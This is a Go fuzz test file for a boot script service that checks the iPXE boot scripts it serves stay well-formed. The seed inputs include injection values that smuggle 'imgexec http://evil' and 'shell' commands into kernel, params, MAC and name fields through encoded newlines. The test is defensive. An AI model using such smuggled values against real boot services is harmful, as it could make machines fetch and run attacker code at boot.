package bss

import (
	"encoding/json"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/cray-bos/bos/internal/fuzzcheck"
)

// fuzzMethods are the body-taking /bootparameters methods a fuzz input picks from.
var fuzzMethods = []string{http.MethodPut, http.MethodPost, http.MethodPatch, http.MethodDelete, http.MethodGet}

// fuzzServer is a server with S3 rewriting on (the path that decodes URLs) and one entry
// for n1, plus an Unknown-x86_64 entry so the discovery path renders too.
func fuzzServer(t *testing.T) (*Server, http.Handler) {
	s := mustServer(t, Config{S3URL: "http://s3:9000"})
	h := s.Handler()
	mustPut(t, h, `{"hosts":["`+n1+`"],"kernel":"s3://boot-images/k/kernel","initrd":"s3://boot-images/k/initrd",`+
		`"params":"console=ttyS0 metal.server=s3://boot-images/k/rootfs root=live:s3://boot-images/k/rootfs"}`)
	mustPut(t, h, `{"hosts":["Unknown-x86_64"],"kernel":"http://k/ipxe.efi"}`)
	return s, h
}

// FuzzBootParameters: any body on any /bootparameters method is answered with a 2xx or a
// problem+json 4xx; a refused write leaves the store as it was; and whatever was stored,
// every boot script BSS then serves is well-formed iPXE (checkScript).
func FuzzBootParameters(f *testing.F) {
	f.Add(uint8(0), `{"hosts":["`+n1+`"],"kernel":"s3://b/k%0Aimgexec%20http://evil"}`)
	f.Add(uint8(0), `{"hosts":["`+n2+`"],"kernel":"k","params":"metal.server=s3://b/x%0Ashell"}`)
	f.Add(uint8(1), `{"macs":["`+mac2+`"],"kernel":"k","initrd":"i","params":"quiet"}`)
	f.Add(uint8(2), `{"nids":[1],"params":"a=b"}`)
	f.Add(uint8(3), `{"hosts":["`+n1+`"]}`)
	f.Add(uint8(4), `{"hosts":["`+n1+`"],"macs":["zz"],"nids":[-1]}`)
	f.Fuzz(func(t *testing.T, m uint8, body string) {
		_, h := fuzzServer(t)
		method := fuzzMethods[int(m)%len(fuzzMethods)]
		before := params(t, h)
		w := fuzzcheck.Do(h, method, "/boot/v1/bootparameters", "application/json", []byte(body))
		fuzzcheck.Reply(t, fuzzcheck.Problem, w)
		if after := params(t, h); w.Code >= 400 && !equalJSON(t, before, after) {
			t.Fatalf("%s refused (%d) but changed the store:\nbefore %v\nafter  %v", method, w.Code, before, after)
		}
		for _, q := range []string{"name=" + n1, "mac=" + mac2, "nid=1", "nid=2", "name=" + n2, "mac=aa:aa:aa:aa:aa:aa&arch=x86_64"} {
			w := fuzzcheck.Do(h, http.MethodGet, "/boot/v1/bootscript?"+q, "", nil)
			fuzzcheck.Reply(t, fuzzcheck.Problem, w)
			if w.Code == http.StatusOK {
				checkScript(t, w.Body.String(), q)
			}
		}
	})
}

// FuzzBootScript: any /bootscript query is answered with a script or a problem, the
// script is well-formed iPXE, and its chain line asks for the same node again.
func FuzzBootScript(f *testing.F) {
	for _, q := range []string{"mac=" + mac1, "name=" + n1 + "&retry=2", "nid=1", "nid=0x1", "mac=" + mac3, "name=nid000001",
		"mac=aa:bb&arch=x86_64", "mac=aa%0Aimgexec%20http://evil", "name=x%0Dshell", "nid=-1", "nid=99999999999",
		"ts=1&mac=" + mac2, "retry=9223372036854775807&nid=1", "name=a%26arch%3Dx"} {
		f.Add(q)
	}
	f.Fuzz(func(t *testing.T, query string) {
		_, h := fuzzServer(t)
		if strings.ContainsAny(query, " #\x7f") || strings.IndexFunc(query, unicode.IsControl) >= 0 {
			return // not a request line a client can send
		}
		w := fuzzcheck.Do(h, http.MethodGet, "/boot/v1/bootscript?"+query, "", nil)
		fuzzcheck.Reply(t, fuzzcheck.Problem, w)
		if w.Code != http.StatusOK {
			return
		}
		script := w.Body.String()
		checkScript(t, script, query)
		q, _ := url.ParseQuery(query)
		lines := strings.Split(strings.TrimSuffix(script, "\n"), "\n")
		chain := strings.TrimPrefix(lines[len(lines)-1], "chain ")
		u, err := url.Parse(chain)
		if err != nil {
			t.Fatalf("chain URL %q of query %q: %v", chain, query, err)
		}
		for _, k := range []string{"mac", "name"} {
			if want := strings.Join(q[k], ""); want != "" && u.Query().Has(k) && u.Query().Get(k) != want {
				t.Fatalf("query %q: the chain line %q asks for %s=%q", query, chain, k, u.Query().Get(k))
			}
		}
	})
}

// scriptLine are the line starts a BSS boot script consists of.
var scriptLine = []string{"#!ipxe", "kernel --name kernel ", "initrd --name initrd ", "imgstat ", "boot ", ":boot_retry", "sleep ", "chain "}

// checkScript fails unless every line of script is one BSS writes, no line holds a
// control character, and no iPXE command separator appears but the ones BSS appends.
func checkScript(t *testing.T, script, query string) {
	t.Helper()
	if !strings.HasPrefix(script, "#!ipxe\n") || !strings.HasSuffix(script, "\n") {
		t.Fatalf("query %q: script does not start with #!ipxe or end with a newline:\n%s", query, script)
	}
	for _, line := range strings.Split(strings.TrimSuffix(script, "\n"), "\n") {
		if i := strings.IndexFunc(line, unicode.IsControl); i >= 0 {
			t.Fatalf("query %q: control character %q in line %q", query, line[i], line)
		}
		if !slices.ContainsFunc(scriptLine, func(p string) bool { return strings.HasPrefix(line, p) }) {
			t.Fatalf("query %q: unexpected line %q in\n%s", query, line, script)
		}
		words := strings.Fields(line)
		for i, w := range words {
			if (w == "||" || w == "&&" || w == ";") && !(w == "||" && i == len(words)-3 || w == "||" && words[0] == "imgstat") {
				t.Fatalf("query %q: command separator %q inside line %q", query, w, line)
			}
		}
	}
}

func equalJSON(t *testing.T, a, b any) bool {
	t.Helper()
	ja, err1 := json.Marshal(a)
	jb, err2 := json.Marshal(b)
	return err1 == nil && err2 == nil && string(ja) == string(jb)
}
